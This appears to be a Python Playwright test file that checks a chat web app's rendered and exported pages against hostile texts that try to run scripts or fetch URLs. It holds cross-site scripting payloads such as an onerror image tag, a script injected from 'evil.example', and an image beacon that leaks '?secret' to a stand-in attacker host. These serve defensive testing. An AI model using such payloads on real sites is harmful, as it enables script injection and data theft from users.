"""Hostile texts cannot run scripts, fetch URLs or navigate in the real page.

These tests show some of the texts; `python -m tests.soak hostile` shows them all.
`web/src/markdown/tests/hostile.test.tsx` tests them at every split point of a stream.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Playwright

from tests.chromium import new_page
from tests.page.hostile import TEXTS, Pages, hostile_pages, in_conversations
from tests.page.places import everywhere, exported, harm_of_file
from tests.page.trap import trapped

pytestmark = pytest.mark.browser

DEEDS = {
    "a script": "const s = document.createElement('script'); s.src = '//evil.example/x.js';"
    "document.getElementById('root').append(s)",
    "an image": "new Image().src = 'http://evil.example/p.png'",
    "a call": "alert(1)",
    "a handler": "document.querySelector('main').setAttribute('onclick', 'alert(1)')",
    "markup": "document.querySelector('main').innerHTML = '<img src=x onerror=alert(1)>'",
}


@pytest.fixture(scope="module")
def pages(playwright: Playwright) -> Iterator[Pages]:
    with hostile_pages(playwright) as pages:
        yield pages


def test_hostile_texts_run_fetch_and_lead_nowhere(pages: Pages) -> None:
    assert len(TEXTS) >= 300
    for texts in in_conversations(TEXTS[::15]):
        assert pages.harm_of(texts) == []


def test_as_a_name_of_anything_they_do_no_more(playwright: Playwright) -> None:
    """Titles, folders, hits, models, providers, files, tools, thoughts, notices, errors, toasts."""
    with everywhere(playwright, TEXTS[::57]) as places:
        assert places.harm() == {}


def test_in_what_is_exported_they_do_no_more(playwright: Playwright) -> None:
    html = exported(TEXTS)
    assert html.count("<h1") + html.count("<h2") >= len(TEXTS), "it shows nothing"
    with trapped(playwright) as (browser, trap):
        assert harm_of_file(browser, trap, html) == []
        assert harm_of_file(browser, trap, "<img src=x onerror=alert(1)>") != []
        assert harm_of_file(browser, trap, "<img src=http://evil.example/p.png>") != []


@pytest.mark.parametrize("deed", DEEDS)
def test_harm_would_be_seen(pages: Pages, deed: str) -> None:
    watched = pages.open()
    watched.page.evaluate(f"() => {{ {DEEDS[deed]} }}")
    assert watched.collect_harm() != []
    watched.close()


def test_without_the_pages_policy_the_trap_would_hear_of_it(playwright: Playwright) -> None:
    with trapped(playwright) as (browser, trap):
        page = new_page(browser)
        page.set_content("<img src='http://evil.example/p.png?secret'>")
        page.wait_for_load_state("networkidle")
        assert any("GET /p.png?secret" in request for request in trap.requests)


def test_the_page_forbids_to_look_up_the_hosts_of_its_links(pages: Pages) -> None:
    watched = pages.open()
    meta = watched.page.locator("meta[http-equiv=x-dns-prefetch-control]")
    assert meta.get_attribute("content") == "off"
    watched.close()
